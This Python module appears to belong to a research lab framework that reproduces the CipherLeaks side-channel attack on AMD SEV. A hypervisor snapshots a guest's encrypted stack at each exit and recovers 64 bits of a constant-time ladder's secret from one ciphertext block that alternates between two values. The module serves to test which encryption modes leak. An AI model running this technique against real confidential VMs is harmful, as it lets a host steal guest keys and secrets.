"""A11: CipherLeaks (Li et al., USENIX Security 2021; Li et al., IEEE S&P 2022).

The encryption is deterministic per host physical address: the same plaintext in the same
16-byte block always gives the same ciphertext. The hypervisor reads the guest's stack pages at
every exit and watches each block's ciphertext. A constant-time ladder still stores its secret
swap decision in a stack slot whose block otherwise stays the same, so that block flips between
exactly two ciphertexts, one per bit value; the ladder's first step is the exponent's leading 1,
which names the two. Encryption modes up to SEV-SNP leak this way; only ciphertext hiding
(reads of private memory return a constant) stops it.
"""

from __future__ import annotations

from hv import boot
from hv.attacks.evidence import text_of
from hv.attacks.findings import Findings
from hv.attacks.lab import OP_LADDER, PORT_STEP, Request
from hv.attacks.outcome import Outcome
from hv.attacks.verdict import Trial, judge
from hv.hw.addr import GPA
from hv.kvm import exits as K

__all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]

ID = "A11"
NAME = "CipherLeaks"
PAPER = "Li et al., CipherLeaks: Breaking Constant-time Cryptography on AMD SEV, USENIX Security 2021"
PRIMITIVES = ("R", "T")

STACK_LO = 0xA000  # the boot stack (docs/guest-abi.md): the ladder's frame is in here
STEPS = 65


def _recover(snapshots: list[bytes]) -> tuple[int, int] | None:
    """(block offset, 64 recovered bits) from the one block that takes exactly two ciphertexts."""
    best = None
    for off in range(0, len(snapshots[0]), 16):
        seq = [s[off:off + 16] for s in snapshots]
        if len(set(seq)) != 2:
            continue
        flips = sum(a != b for a, b in zip(seq, seq[1:]))
        if best is None or flips > best[0]:
            best = (flips, off, seq)
    if best is None:
        return None
    _flips, off, seq = best
    one = seq[0]  # step 0 is the leading 1
    value = 0
    for s in seq[1:]:
        value = value << 1 | (s == one)
    return off, value


def _attack(trial: Trial) -> Findings:
    snapshots: list[bytes] = []

    with trial.lab("service") as lab:
        def on_exit(e) -> None:
            if isinstance(e, K.Io) and e.port == PORT_STEP:
                snapshots.append(lab.vm.read_gpa(GPA(STACK_LO), boot.BOOT_STACK_TOP - STACK_LO))

        def script():
            yield Request(OP_LADDER)

        lab.launch()
        stop = lab.run(script(), on_exit=on_exit)
    completed = len(snapshots) == STEPS and stop.reason == "exit"
    found = _recover(snapshots) if len(snapshots) == STEPS else None
    if found is None:
        return Findings(f"{len(snapshots)} stack snapshots over the ladder; no block took exactly two "
                        f"ciphertexts", completed=completed)
    off, value = found
    bits = value.to_bytes(8, "little")
    return Findings(f"stack block at GPA {STACK_LO + off:#x} took 2 ciphertexts over {STEPS} exits; "
                    f"read 64 bits {value:#018x} (the bytes {text_of(bits)}) from its flips",
                    recovered=bits, completed=completed)


def run(mode: str) -> Outcome:
    return judge(ID, mode, _attack)
